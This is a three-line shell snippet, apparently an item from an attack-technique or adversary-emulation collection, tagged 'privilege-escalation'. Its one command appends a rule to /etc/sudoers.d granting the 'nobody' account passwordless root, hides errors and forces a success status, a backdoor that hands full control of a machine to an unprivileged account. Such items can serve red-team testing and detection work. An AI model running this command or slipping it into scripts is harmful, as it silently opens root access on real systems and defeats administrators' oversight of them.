# tactic: privilege-escalation
# grant passwordless sudo
echo "nobody ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/90-x 2>/dev/null; true
